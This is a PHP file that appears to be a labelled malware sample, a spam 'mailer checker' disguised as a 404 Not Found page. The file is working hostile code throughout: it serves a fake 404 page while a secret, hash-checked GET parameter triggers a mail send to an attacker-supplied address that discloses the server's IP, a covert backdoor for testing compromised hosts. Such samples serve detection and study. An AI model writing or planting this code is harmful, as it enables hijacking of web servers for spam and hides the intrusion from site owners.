<?php
// Family: mailer/checker
// Style: checker disguised as a 404 page
// Trait: real-looking 404 page; a secret GET key triggers a test send to the operator-supplied address
http_response_code(404);
if (isset($_GET['zz']) && md5($_GET['zz']) === '0cc175b9c0f1b6a831c399e269772661') {
	$ok = mail($_GET['e'], 'inbox check', 'test ' . $_SERVER['SERVER_ADDR'], 'From: noreply@' . $_SERVER['SERVER_NAME']);
	echo $ok ? 'mail_sent' : 'mail_error';
	exit;
}
?><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>
